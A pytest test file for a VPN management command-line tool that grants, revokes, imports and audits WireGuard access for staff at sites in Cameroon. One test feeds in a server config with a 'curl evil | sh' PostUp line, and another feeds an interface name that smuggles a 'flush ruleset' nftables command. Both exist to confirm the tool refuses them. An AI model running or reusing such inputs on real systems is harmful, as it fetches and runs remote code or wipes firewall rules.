"""Giving people access over the VPN from a terminal, and withdrawing it."""

import json
import stat
import subprocess
from typing import Any

import pytest

from tests.cli.test_cli_vpn import ACCESS
from vpn import keys, wgquick

EDGE = """
devices:
  - name: yaounde-e1
    site: yaounde
    number: 7
    role: edge
    platform: linux
gateways:
  - {device: yaounde-e1, number: 1, endpoint: "vpn.example.cm:51820"}
"""
NGONO = ("--title", "Dr A. Ngono", "--role", "doctor", "--site", "mora", "--because", "locum")


@pytest.fixture
def open_(sanaga, small):
    """Return an intent with a gateway whose access policy is accepted."""
    folder = sanaga.folder / small
    (folder / "access.yaml").write_text(ACCESS, encoding="utf-8")
    (folder / "edge.yaml").write_text(EDGE, encoding="utf-8")
    public = keys.public_of(keys.generate())
    (folder / "edge_keys").write_text(f"yaounde-e1 {public}\n", encoding="utf-8")
    done = sanaga("vpn", "apply", "--dir", small, "--because", "begin")
    assert done.code == 0, done.err
    return small


def add(sanaga, *words):
    return sanaga("vpn", "person", "add", "a-ngono", *NGONO, *words)


def read(sanaga, name) -> Any:
    """Return a device's file; its keys are there, which types cannot tell."""
    return wgquick.parse((sanaga.folder / name).read_text(encoding="utf-8"), name)


def test_a_gateway_without_a_pinned_key_lets_nobody_dial(sanaga, small):
    (sanaga.folder / small / "edge.yaml").write_text(EDGE, encoding="utf-8")
    answer = sanaga("vpn", "plan", "--dir", small)
    assert answer.code == 1
    assert "no key is pinned for yaounde-e1" in answer.err


def test_plan_shows_what_apply_does_and_then_nothing(sanaga, open_):
    (sanaga.folder / open_ / "more.yaml").write_text(
        "groups: [{name: nurses, title: Nurses, role: nurse, under: mora}]\n", encoding="utf-8"
    )
    planned = sanaga("vpn", "plan", "--dir", open_)
    assert (planned.code, planned.out) == (2, "+ group nurses: nurse at or below mora\n")
    assert sanaga("vpn", "apply", "--dir", open_, "--because", "nurses join").code == 0
    assert sanaga("vpn", "plan", "--dir", open_).code == 0


def test_terms_by_which_people_lose_need_a_yes(sanaga, open_):
    add(sanaga, "--file", "n.conf")
    file = sanaga.folder / open_ / "access.yaml"
    file.write_text(ACCESS.replace("role: doctor,", "role: surgeon,").split("grants:")[0])
    answer = sanaga("vpn", "apply", "--dir", open_, "--because", "x")
    assert answer.code == 64
    assert "1 person will reach less: a-ngono" in answer.out
    assert sanaga("vpn", "plan", "--dir", open_).code == 2


def test_a_grant_that_goes_and_a_gateway_that_moves_are_told(sanaga, open_):
    add(sanaga, "--file", "n.conf")
    file = sanaga.folder / open_ / "access.yaml"
    doctors = ACCESS.index("  - group: doctors")
    engineers = ACCESS.index("  - group: engineers")
    file.write_text(ACCESS[:doctors] + ACCESS[engineers:], encoding="utf-8")
    answer = sanaga("vpn", "apply", "--dir", open_, "--because", "x")
    assert answer.code == 64
    assert "1 person will reach less: a-ngono" in answer.out
    file.write_text(ACCESS, encoding="utf-8")
    edge = sanaga.folder / open_ / "edge.yaml"
    edge.write_text(EDGE.replace(":51820", ":51821"), encoding="utf-8")
    planned = sanaga("vpn", "plan", "--dir", open_)
    assert "people's files no longer lead to yaounde-e1: each needs another file" in planned.out


def test_a_network_whose_last_gateway_goes_still_lets_people_be_revoked(sanaga, open_):
    add(sanaga, "--file", "n.conf")
    edge = sanaga.folder / open_ / "edge.yaml"
    edge.write_text(EDGE.split("gateways:", maxsplit=1)[0], encoding="utf-8")
    assert sanaga("vpn", "apply", "--dir", open_, "--because", "x").code == 64
    answer = sanaga("vpn", "apply", "--dir", open_, "--because", "x", "--yes")
    assert answer.code == 0
    assert "1 person will reach less: a-ngono\nnobody can dial: there is no gateway" in answer.out
    assert "yaounde-e1 without a management address: take its people away by hand" in answer.err
    answer = sanaga("vpn", "person", "revoke", "a-ngono", "--because", "x")
    assert answer.code == 0
    assert answer.err.splitlines()[-1] == "there is no gateway, so nobody can dial and none is told"


def test_another_way_to_a_gateway_is_a_difference(sanaga, open_):
    edge, known = sanaga.folder / open_ / "edge.yaml", sanaga.folder / open_ / "known_hosts"
    door = "    platform: linux\n    management: {address: 10.0.3.200, credential: 'env:X'}\n"
    edge.write_text(EDGE.replace("    platform: linux\n", door), encoding="utf-8")
    apply = ("vpn", "apply", "--dir", open_, "--because", "x", "--later")
    answer = sanaga(*apply)
    assert answer.code == 0, answer.err
    assert "env:X, no host key pinned" in answer.out
    assert sanaga("vpn", "plan", "--dir", open_).code == 0
    edge.write_text(edge.read_text(encoding="utf-8").replace("env:X", "env:Y"), encoding="utf-8")
    assert "env:X, no host key pinned becomes" in sanaga("vpn", "plan", "--dir", open_).out
    assert sanaga(*apply).code == 0
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF7M+oQ5XNBEn7DYWfYb2WqP9V5Hh0kzYrHOJ3v1sH5Q"
    known.write_text(f"10.0.3.200 {key}\n", encoding="utf-8")
    planned = sanaga("vpn", "plan", "--dir", open_)
    assert planned.code == 2, planned.err
    assert "becomes sanaga@10.0.3.200 port 22, env:Y, host key …YrHOJ3v1sH5Q" in planned.out


def test_terms_whose_tests_fail_are_not_taken(sanaga, open_):
    file = sanaga.folder / open_ / "access.yaml"
    file.write_text(ACCESS.replace("under: maroua", "under: yaounde"), encoding="utf-8")
    answer = sanaga("vpn", "apply", "--dir", open_, "--because", "x")
    assert answer.code == 1
    assert "1 test of the grants failed" in answer.err


def test_the_file_is_for_its_owner_alone_and_can_be_used(sanaga, open_):
    answer = add(sanaga, "--file", "n.conf", "--png", "n.png")
    assert answer.code == 0, answer.err
    assert answer.out == ""
    assert {stat.S_IMODE(path.stat().st_mode) for path in sanaga.folder.glob("n.*")} == {0o600}
    config = read(sanaga, "n.conf")
    shown = json.loads(sanaga("vpn", "person", "show", "a-ngono", "-o", "json").out)
    assert [one["public_key"] for one in shown["devices"]] == [keys.public_of(config.private_key)]
    assert shown["groups"] == ["doctors"]


def test_nothing_is_overwritten_and_nobody_is_added(sanaga, open_):
    (sanaga.folder / "n.conf").write_text("mine", encoding="utf-8")
    answer = add(sanaga, "--file", "n.conf")
    assert (answer.code, answer.err) == (
        64,
        "sanaga: n.conf: there already; nothing is overwritten\n",
    )
    assert json.loads(sanaga("vpn", "person", "list", "--all", "-o", "json").out) == []


def test_a_file_that_cannot_be_written_leaves_nothing_behind(sanaga, open_):
    answer = add(sanaga, "--file", "n.conf", "--png", "no/such/folder/n.png")
    assert answer.code == 1
    assert not (sanaga.folder / "n.conf").exists()
    assert json.loads(sanaga("vpn", "person", "list", "--all", "-o", "json").out) == []


def test_without_a_terminal_a_place_must_be_named(sanaga, open_):
    answer = add(sanaga)
    assert answer.code == 64
    assert "say where the file goes" in answer.err


def test_a_private_key_given_for_a_public_one_is_never_repeated(sanaga, open_):
    wrong = keys.generate().reveal()[:-3] + "x=="
    answer = add(sanaga, "--show", "--public-key", wrong)
    assert answer.code == 64
    assert wrong not in answer.err + answer.out


def test_output_as_json_holds_no_secret(sanaga, open_):
    answer = add(sanaga, "--file", "n.conf", "-o", "json")
    config = read(sanaga, "n.conf")
    assert json.loads(answer.out)["name"] == "a-ngono"
    for secret in (config.private_key, config.peers[0].preshared_key):
        assert secret.reveal() not in answer.out + answer.err


def test_revoked_devices_are_not_among_a_gateways_peers(sanaga, open_):
    add(sanaga, "--file", "n.conf")
    sanaga("vpn", "person", "add", "a-ngono", "--device", "laptop", "--file", "l.conf",
           "--because", "x")  # fmt: skip
    both = sanaga("vpn", "site", "export", "yaounde-e1", "--because", "x", "--file", "both")
    assert "2 devices may dial" in both.err
    done = sanaga("vpn", "person", "revoke", "a-ngono", "--device", "laptop", "--because", "gone")
    assert (done.code, done.out) == (0, "")
    sanaga("vpn", "site", "export", "yaounde-e1", "--because", "x", "--file", "one")
    config = read(sanaga, "n.conf")
    peers = (sanaga.folder / "one").read_text(encoding="utf-8")
    assert peers.count("[Peer]") == 1
    assert keys.public_of(config.private_key) in peers
    assert config.peers[0].preshared_key.reveal() in peers


def test_a_gateways_filter_opens_what_grants_open_to_the_addresses_of_people(sanaga, open_):
    add(sanaga, "--file", "n.conf")
    answer = sanaga("vpn", "site", "rules", "yaounde-e1", "people0")
    assert "set from_doctors_4 { type ipv4_addr; elements = { 172.26.0.2 } }" in answer.out
    checked = subprocess.run(
        ["nft", "--check", "-f", "-"], input=answer.out, text=True, check=False, capture_output=True
    )
    assert checked.returncode == 0, checked.stderr
    bad = sanaga("vpn", "site", "rules", "yaounde-e1", 'x"; flush ruleset')
    assert bad.code == 1
    assert "is no name of an interface" in bad.err


def test_gateways_that_nobody_reaches_are_told_of_by_every_verb_and_by_status(sanaga, open_):
    reached = EDGE.replace(
        "platform: linux", "platform: linux\n    management: {address: 127.0.0.1, port: 9}"
    )
    (sanaga.folder / open_ / "edge.yaml").write_text(reached, encoding="utf-8")
    done = sanaga("vpn", "apply", "--dir", open_, "--because", "x", "--later")
    assert done.code == 0
    assert "~ the way to yaounde-e1" not in done.out
    assert "+ the way to yaounde-e1: sanaga@127.0.0.1 port 9" in done.out
    assert done.err.endswith("no gateway was told; 'sanaga vpn load' does\n")
    answer = add(sanaga, "--file", "n.conf")
    assert answer.code == 5
    assert "a-ngono's tablet is on record\n" in answer.err
    assert "yaounde-e1 was never told anything; 'sanaga vpn load' tries again\n" in answer.err
    (row,) = json.loads(sanaga("vpn", "status", "-o", "json").out)
    assert (row["reached"], row["behind"], row["told"]) == (False, 4, None)
    assert row["fault"].startswith("yaounde-e1: ")
    assert sanaga("vpn", "load", "--within", "1s").code == 5
    assert sanaga("vpn", "load", "yaounde-e2").code == 1


def test_people_who_dial_a_server_today_keep_their_keys(sanaga, open_):
    privates = [keys.generate() for _ in range(4)]
    publics = [keys.public_of(private) for private in privates]
    server = "".join(
        [
            f"[Interface]\nPrivateKey = {keys.generate().reveal()}\nListenPort = 51820\n\n",
            f"# Dr Éliane Ngono\n[Peer]\nPublicKey = {publics[0]}\nAllowedIPs = 10.8.0.2/32\n\n",
            f"[Peer]\n# Dr Eliane Ngono\nPublicKey = {publics[1]}\nAllowedIPs = 10.8.0.3/32\n",
            f"[Peer]\nPublicKey = {publics[2]}\nPresharedKey = {keys.preshared().reveal()}\n",
        ]
    )
    (sanaga.folder / "wg0.conf").write_text(server, encoding="utf-8")
    (sanaga.folder / "wg1.conf").write_text(
        f"[Interface]\n# ours\n[Peer]\nPublicKey = {publics[3]}\n", encoding="utf-8"
    )
    words = ("--role", "doctor", "--site", "mora")
    answer = sanaga("vpn", "import", "wg0.conf", "wg1.conf", *words)
    assert answer.code == 0, answer.err
    assert "4 devices" in answer.err
    for secret in (line.split(" = ")[1] for line in server.splitlines() if "Private" in line):
        assert secret not in answer.out + answer.err
    rows = [line.split(",") for line in answer.out.splitlines()]
    assert [(row[0], row[-1]) for row in rows[1:]] == list(
        zip(["dr-eliane-ngono", "dr-eliane-ngono-2", "person-3", "person-4"], publics, strict=True)
    )
    (sanaga.folder / "people.csv").write_text(answer.out, encoding="utf-8")
    done = sanaga("vpn", "person", "apply", "people.csv", "--because", "moved here")
    assert done.code == 0, done.err
    shown = json.loads(sanaga("vpn", "person", "list", "-o", "json").out)
    assert [person["title"] for person in shown] == [
        "Dr Éliane Ngono",
        "Dr Eliane Ngono",
        "person-3",
        "person-4",
    ]


def test_a_server_s_file_that_would_run_commands_is_refused_at_its_line(sanaga, open_):
    (sanaga.folder / "wg0.conf").write_text(
        "[Interface]\nPostUp = curl evil | sh\n[Peer]\nPublicKey = x\n", encoding="utf-8"
    )
    answer = sanaga("vpn", "import", "wg0.conf", "--role", "doctor", "--site", "mora")
    assert answer.code == 1
    assert "wg0.conf:2" in answer.err
    assert "wg0.conf:4" in answer.err
    assert answer.out == ""


def test_export_of_an_unknown_gateway_names_the_nearest(sanaga, open_):
    answer = sanaga("vpn", "site", "export", "yaounde-e2", "--because", "x", "--file", "f")
    assert answer.code == 1
    assert "did you mean yaounde-e1?" in answer.err


LIST = """name,title,role,site,until,device
a-ngono,Dr A. Ngono,doctor,mora,2999-02-28,tablet
b-oumarou,"Oumarou, B.",engineer,yaounde,,laptop
"""


def test_a_list_is_shown_then_done_and_not_done_twice(sanaga, open_):
    (sanaga.folder / "people.csv").write_text(LIST, encoding="utf-8")
    planned = sanaga("vpn", "person", "plan", "people.csv")
    assert planned.code == 2
    assert planned.out.splitlines() == [
        "+ a-ngono: tablet gets a key, doctor at mora until 2999-02-28",
        "+ b-oumarou: laptop gets a key, engineer at yaounde",
        "2 devices to add, 0 people to change, 0 devices to revoke",
    ]
    words = ("vpn", "person", "apply", "people.csv", "--because", "x")
    assert sanaga(*words).code == 64
    done = sanaga(*words, "--out", "files")
    assert done.code == 0, done.err
    names = sorted(path.name for path in (sanaga.folder / "files").iterdir())
    assert names == ["a-ngono-tablet.conf", "b-oumarou-laptop.conf"]
    again = sanaga(*words, "--out", "files")
    assert (again.code, again.err) == (0, "nothing to change\n")


def test_files_of_somebody_who_was_killed_are_kept_when_their_devices_are_on_record(sanaga, open_):
    add(sanaga, "--file", "n.conf")
    (sanaga.folder / "people.csv").write_text(LIST, encoding="utf-8")
    files = sanaga.folder / "files"
    files.mkdir()
    kept, lost = files / "a-ngono-tablet.conf", files / "b-oumarou-laptop.conf"
    whole = (sanaga.folder / "n.conf").read_text(encoding="utf-8")
    draft_of(kept).write_text(whole, encoding="utf-8")
    draft_of(lost).write_text("[Interface]\nPrivate", encoding="utf-8")
    words = ("vpn", "person", "apply", "people.csv", "--because", "x", "--out", "files")
    assert sanaga(*words).code == 0
    assert kept.read_text(encoding="utf-8") == whole
    assert sorted(files.iterdir()) == [kept, lost]
    assert read(sanaga, lost).private_key


def draft_of(file):
    return file.with_name(f"{file.name}.draft")


def test_pruning_revokes_who_is_not_listed_after_a_yes(sanaga, open_):
    add(sanaga, "--file", "n.conf")
    (sanaga.folder / "people.csv").write_text(
        "name,title,role,site\nb-oumarou,B. Oumarou,doctor,mora\n", encoding="utf-8"
    )
    words = ("vpn", "person", "apply", "people.csv", "--because", "x", "--out", "f", "--prune")
    refused = sanaga(*words)
    assert (refused.code, refused.err) == (
        64,
        "sanaga: 1 device would be revoked, and nobody can be asked; say --yes\n",
    )
    assert sanaga(*words, "--yes").code == 0
    listed = json.loads(sanaga("vpn", "person", "list", "-o", "json").out)
    assert [person["name"] for person in listed] == ["b-oumarou"]


def test_every_fault_of_a_list_is_told_at_its_line(sanaga, open_):
    (sanaga.folder / "people.csv").write_text(
        "name,title,role,site,until\n"
        "a-ngono,Dr A. Ngono,docter,mora,\n"
        "b,B,doctor,nowhere,soon\n"
        "c,C,doctor,moro,\n",
        encoding="utf-8",
    )
    answer = sanaga("vpn", "person", "plan", "people.csv")
    assert answer.code == 1
    assert "people.csv:3:1: 'soon' is no day; write it as '2027-02-28'" in answer.err
    (sanaga.folder / "people.csv").write_text(
        "name,title,role,site\na-ngono,Dr A. Ngono,docter,mora\nc,C,doctor,moro\n",
        encoding="utf-8",
    )
    answer = sanaga("vpn", "person", "plan", "people.csv")
    assert "people.csv:2:1: no role is called 'docter'; did you mean doctor?" in answer.err
    assert "people.csv:3:1: no site is called 'moro'; did you mean mora or maroua?\n" in answer.err


def test_the_audit_trail_tells_who_and_why(sanaga, open_):
    add(sanaga, "--file", "n.conf")
    traces = json.loads(sanaga("vpn", "audit", "a-ngono", "-o", "json").out)
    assert [(trace["what"], trace["because"]) for trace in traces] == [
        ("person.add", "locum"),
        ("device.add", "locum"),
    ]
    assert "unbroken" in sanaga("vpn", "audit").err


def test_a_code_is_asked_for_and_is_no_argument(sanaga):
    answer = sanaga("vpn", "join", "vpn.example.cm:51830/3YRG-4NMF-3SS9-GFA5-PW24")
    assert (answer.code, answer.out) == (64, "")
    assert "a code is a secret and no argument" in answer.err
    assert "3YRG" not in answer.err
    wrong = "vpn.example.cm:51830/3YRG-4NMF-3SS9-GFA5-PW25\n"
    answer = sanaga("vpn", "join", "--file", "x.conf", stdin=wrong * 3)
    assert answer.code == 64
    assert answer.err.count("a letter or digit is not the one that was said") == 3
    assert "3YRG" not in answer.err
    assert not list(sanaga.folder.glob("x.conf"))


@pytest.mark.parametrize("place", ["there.conf", "no/such/folder/x.conf"])
def test_where_the_file_cannot_be_is_known_before_a_code_is_asked_for(sanaga, place):
    (sanaga.folder / "there.conf").write_text("mine", encoding="utf-8")
    answer = sanaga("vpn", "join", "--file", place, stdin="x\n")
    assert answer.code in {1, 64}
    assert "Code" not in answer.err
    assert place in answer.err
    assert (sanaga.folder / "there.conf").read_text(encoding="utf-8") == "mine"


def test_without_a_gateway_that_takes_devices_in_nobody_is_invited(sanaga, open_):
    answer = sanaga("vpn", "person", "invite", "a-ngono", *NGONO)
    assert (answer.code, answer.out) == (1, "")
    assert "write an enrolment_port, such as 51830" in answer.err
